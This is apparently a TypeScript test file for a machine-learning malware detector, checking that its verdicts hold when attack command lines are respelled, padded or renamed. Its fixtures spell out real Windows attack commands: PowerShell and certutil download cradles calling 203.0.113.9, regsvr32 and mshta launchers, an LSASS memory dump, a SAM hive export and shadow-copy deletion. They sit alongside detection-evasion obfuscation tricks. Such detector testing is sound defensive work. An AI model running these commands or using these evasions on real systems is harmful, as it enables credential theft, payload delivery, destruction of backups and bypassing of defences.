import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { openScorer, type Scorer } from '../../../src/problemchild/index.ts';
import { processStart, type StartFields } from './process-start.ts';

const system = 'C:\\Windows\\System32\\';
const powershell = `${system}WindowsPowerShell\\v1.0\\powershell.exe`;
const person = {
  userId: 'S-1-5-21-1-2-3-1001',
  integrityLevel: 'High',
  parentExecutable: `${system}cmd.exe`,
  parentCommandLine: 'cmd.exe',
} as const;

/** Attacks as they are recorded, each with the words whose spelling is free. */
const attacks: readonly (StartFields & {
  readonly executable: string;
  readonly commandLine: string;
  readonly originalFileName: string;
})[] = [
  {
    ...person,
    executable: powershell,
    originalFileName: 'PowerShell.EXE',
    commandLine:
      "powershell.exe -nop -w hidden -ep bypass -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')",
  },
  {
    ...person,
    executable: `${system}certutil.exe`,
    originalFileName: 'CertUtil.exe',
    commandLine: 'certutil.exe -urlcache -split -f http://203.0.113.9/payload.exe C:\\Users\\Public\\p.exe',
  },
  {
    ...person,
    executable: `${system}rundll32.exe`,
    originalFileName: 'RUNDLL32.EXE',
    commandLine:
      'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\lsass.dmp full',
  },
  {
    ...person,
    executable: `${system}reg.exe`,
    originalFileName: 'reg.exe',
    commandLine: 'reg.exe save HKLM\\SAM C:\\Users\\Public\\sam.hiv',
  },
  {
    ...person,
    executable: `${system}cmd.exe`,
    originalFileName: 'Cmd.Exe',
    commandLine:
      'cmd.exe /c vssadmin delete shadows /all /quiet & wmic shadowcopy delete & bcdedit /set {default} recoveryenabled no',
  },
  {
    ...person,
    executable: `${system}regsvr32.exe`,
    originalFileName: 'REGSVR32.EXE',
    commandLine: 'regsvr32.exe /s /n /u /i:http://203.0.113.9/a.sct scrobj.dll',
  },
  {
    ...person,
    executable: `${system}mshta.exe`,
    originalFileName: 'MSHTA.EXE',
    commandLine:
      'mshta.exe vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""powershell -nop -w hidden"":close")',
  },
];

/** What only changes how a line is written. */
const respellings: Readonly<Record<string, (line: string, pick: () => number) => string>> = {
  case: (line, pick) => [...line].map((c) => (pick() < 0.5 ? c.toUpperCase() : c.toLowerCase())).join(''),
  carets: (line, pick) => line.replaceAll(/[a-z](?=[a-z])/gi, (c) => (pick() < 0.2 ? `${c}^` : c)),
  quotes: (line, pick) => line.replaceAll(/[a-z](?=[a-z])/gi, (c) => (pick() < 0.1 ? `${c}""` : c)),
  spaces: (line) => line.replaceAll(' ', '    '),
  variables: (line, pick) =>
    line
      .replaceAll(/(?<=[a-z])(?=[a-z])/gi, () => (pick() < 0.05 ? '%ab%' : ''))
      .replaceAll(/C:\\Windows/g, '%SystemRoot%'),
};

/** What stands before and behind the attack's own words, for a program that does not mind. */
const pads: Readonly<Record<string, (fill: (units: number) => string) => readonly [string, string]>> = {
  blanks: () => [' '.repeat(6_200), ''],
  'invisible characters': () => [`${'\u200b'.repeat(6_200)} `, ''],
  'words before': (fill) => [fill(900), ''],
  'many words before': (fill) => [fill(20_000), ''],
  'words around': (fill) => [fill(3_000), fill(3_000)],
  variables: () => ['%tmp% '.repeat(150), ''],
};

describe('spelling, padding and renaming do not change the verdict of the shipped model', () => {
  let scorer: Scorer;
  beforeAll(async () => {
    scorer = await openScorer(join(import.meta.dirname, '../../../models/agent-v1'));
  });
  afterAll(() => scorer.close());

  test('the attacks are called malicious as recorded', async () => {
    const predictions = await scorer.score(attacks.map(processStart));
    expect(predictions.map(({ prediction }) => prediction)).toEqual(attacks.map(() => 1));
  });

  test.each(Object.keys(respellings))('%s', async (kind) => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.double({ min: 0, max: 1, noNaN: true }), { minLength: 64, maxLength: 64 }),
        async (draws) => {
          let at = 0;
          const pick = (): number => draws[at++ % draws.length]!;
          const events = attacks.map((attack) =>
            processStart({ ...attack, commandLine: respellings[kind]!(attack.commandLine, pick) }),
          );
          const predictions = await scorer.score(events);
          expect(predictions.map(({ prediction }) => prediction)).toEqual(attacks.map(() => 1));
        },
      ),
      { numRuns: 40 },
    );
  });

  test.each(Object.keys(pads))('padding: %s', async (kind) => {
    const word = fc.stringMatching(/^[a-z]{3,9}$/);
    await fc.assert(
      fc.asyncProperty(fc.array(word, { minLength: 5, maxLength: 40 }), async (words) => {
        const fill = (units: number): string => {
          const once = `${words.join(' ')} `;
          return once
            .repeat(Math.ceil(units / once.length))
            .slice(0, units)
            .trimEnd();
        };
        const [before, behind] = pads[kind]!(fill);
        const events = attacks.map((attack) => {
          const [program = '', ...rest] = attack.commandLine.split(' ');
          const commandLine = `${program} ${before} ${rest.join(' ')} ${behind}`;
          return processStart({ ...attack, commandLine });
        });
        const predictions = await scorer.score(events);
        expect(predictions.map(({ prediction }) => prediction)).toEqual(attacks.map(() => 1));
      }),
      { numRuns: 20 },
    );
  });

  test.each([true, false])('a renamed program, its original name recorded: %s', async (isRecorded) => {
    const name = fc.stringMatching(/^[a-z0-9]{3,9}$/);
    await fc.assert(
      fc.asyncProperty(name, async (stem) => {
        const events = attacks.map(({ originalFileName, ...attack }) =>
          processStart({
            ...attack,
            executable: `C:\\Users\\Public\\${stem}.exe`,
            commandLine: attack.commandLine.replace(/^\S+/, `C:\\Users\\Public\\${stem}.exe`),
            ...(isRecorded ? { originalFileName } : {}),
          }),
        );
        const predictions = await scorer.score(events);
        expect(predictions.map(({ prediction }) => prediction)).toEqual(attacks.map(() => 1));
      }),
      { numRuns: 40 },
    );
  });

  test('every score is the same to the bit alone, in a batch and in any place of it', async () => {
    const events = attacks.map(processStart);
    const together = await scorer.score([...events, ...events.toReversed(), ...events]);
    for (const [index, event] of events.entries()) {
      const [alone] = await scorer.score([event]);
      expect(together[index]).toEqual(alone);
      expect(together[events.length * 2 - 1 - index]).toEqual(alone);
      expect(together[events.length * 2 + index]).toEqual(alone);
    }
  });
});
